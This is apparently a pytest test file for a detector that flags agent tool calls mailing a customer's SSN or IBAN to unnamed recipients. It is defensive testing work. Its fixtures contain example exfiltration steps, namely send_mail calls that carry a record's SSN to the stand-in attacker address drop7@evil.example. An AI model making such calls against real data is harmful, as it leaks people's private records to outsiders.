"""Sensitive content of an earlier result, and to whom it goes."""

import time

import pytest

from contracts.span import Value
from contracts.testing import call
from detectors.rules.disclosure import sensitive
from detectors.rules.pack import RulePack

_PACK = RulePack.load()
RECORD: dict[str, Value] = {
    "name": "Ann Roe",
    "ssn": "219-09-9999",
    "iban": "DE89370400440532013000",
}


def _egress(
    body: str, to: str = "drop7@evil.example", request: str = "", result: Value = None
) -> bool:
    calls = [
        call("load_customer", {"id": "c-1"}, result=RECORD if result is None else result),
        call("send_mail", {"to": to, "body": body}, step=1),
    ]
    return any(action.variant == "sensitive_out" for action in _PACK.label(calls, request).actions)


@pytest.mark.parametrize("request_", ["", "tidy up the inbox"])
@pytest.mark.parametrize(
    "body", ["219-09-9999", "219 09 9999", "DE89 3704 0044 0532 0130 00", "x 219-09-9999 y"]
)
def test_numbers_of_a_record_sent_to_a_stranger(body: str, request_: str) -> None:
    assert _egress(body, request=request_)


@pytest.mark.parametrize(
    ("to", "request_"),
    [
        ("drop7@evil.example", "send the record to drop7@evil.example"),
        ("ann@ledgers.example", "send the record to our accountants at ledgers"),
        ("bob.lee@post.example", "send it to Bob"),
    ],
)
def test_whoever_the_user_named_is_no_stranger(to: str, request_: str) -> None:
    assert not _egress("219-09-9999", to, request_)
    assert _egress("219-09-9999", to, "look at the record")


def test_a_contact_or_a_host_of_the_users_own_data_is_no_stranger() -> None:
    own: dict[str, Value] = {**RECORD, "clerk": "kim@office.example"}
    assert not _egress("219-09-9999", "kim@office.example", result=own)
    assert not _egress("219-09-9999", "lee@office.example", result=own)
    assert _egress("219-09-9999", "lee@gmail.com", result={**own, "mail": "ann@gmail.com"})


@pytest.mark.parametrize("body", ["", "one customer, nothing open", "call 555-010-2030", "c-1"])
def test_other_content_is_no_disclosure(body: str) -> None:
    assert not _egress(body)


def test_check_digits_tell_numbers_from_ids() -> None:
    found = sensitive("card 4111 1111 1111 1111, order 4111 1111 1111 1112, de89370400440532013001")
    assert found.numbers == {"4111111111111111"}


def test_the_work_is_bounded() -> None:
    text = " ".join(f"w{number} ssn: {number:03d}-45-6789 4111-1111-" for number in range(4_000))
    calls = [call("load_page", {"n": n}, step=n, result=f"{n} {text}") for n in range(30)]
    calls += [
        call("send_mail", {"to": f"a{n}@evil.example", "body": text[:n]}, step=30 + n)
        for n in range(1, 200)
    ]
    started = time.process_time()
    _PACK.label(calls)
    assert time.process_time() - started < 20.0
